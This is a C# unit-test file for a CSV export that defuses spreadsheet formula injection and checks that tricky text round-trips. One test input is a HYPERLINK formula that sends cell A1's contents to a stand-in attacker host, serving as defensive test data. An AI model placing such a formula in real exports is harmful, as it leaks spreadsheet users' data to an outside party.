using System.Text;
using CsvHelper;
using Ressursvenn.Web.Infrastructure;

namespace Ressursvenn.UnitTests;

/// <summary>The CSV that people open in a spreadsheet: formulas are defused, anything else comes back as it was written.</summary>
public sealed class SpreadsheetCsvTests
{
    [Theory]
    [InlineData("=HYPERLINK(\"https://evil.invalid/?d=\"&A1,\"Klikk her\")")]
    [InlineData("+47 22 00 00 00")]
    [InlineData("-2+3")]
    [InlineData("@SUM(A1:A9)")]
    [InlineData("\t=1+1")]
    [InlineData("\r=1+1")]
    public async Task ACellThatAFormulaCouldStartWith_IsPrefixedWithAnApostrophe_AndQuoted(string value)
    {
        var text = await WriteAsync(["1", value]);

        Assert.Contains("\"'" + value.Replace("\"", "\"\"", StringComparison.Ordinal) + "\"", text, StringComparison.Ordinal);
        var row = Assert.Single(Read(text));
        Assert.Equal("'" + value, row[1]);
    }

    [Fact]
    public async Task TextWithQuotesSeparatorsAndLineBreaks_RoundTrips_AndNumbersAreLeftAlone()
    {
        string[] tricky = ["Kari \"Kaja\" Nordmann", "Oslo, Bergen; Tromsø", "første linje\nandre linje", "CR\r\nLF", "", "' allerede sitert"];

        var text = await WriteAsync(tricky, numbers: [-5, 42]);

        Assert.StartsWith("\uFEFF", text, StringComparison.Ordinal);
        Assert.EndsWith(";-5;42\n", text, StringComparison.Ordinal);
        var row = Assert.Single(Read(text));
        Assert.Equal([.. tricky, "-5", "42"], row);
    }

    /// <summary>Writes one record of text fields followed by number fields, as the app writes a download.</summary>
    private static async Task<string> WriteAsync(string[] texts, long[]? numbers = null)
    {
        using var stream = new MemoryStream();
        await using (var csv = SpreadsheetCsv.Create(stream))
        {
            foreach (var text in texts)
            {
                csv.WriteField(text);
            }

            foreach (var number in numbers ?? [])
            {
                csv.WriteField(number);
            }

            await csv.EndRecordAsync(TestContext.Current.CancellationToken);
        }

        return new UTF8Encoding(encoderShouldEmitUTF8Identifier: false).GetString(stream.ToArray());
    }

    private static List<string[]> Read(string text)
    {
        using var csv = CsvReader.Create(new StringReader(text.TrimStart('\uFEFF')), CsvReaderOptions.Default with { Separator = ';', HasHeader = false });
        var rows = new List<string[]>();
        while (csv.Read())
        {
            rows.Add([.. Enumerable.Range(0, csv.FieldCount).Select(csv.GetString)]);
        }

        return rows;
    }
}
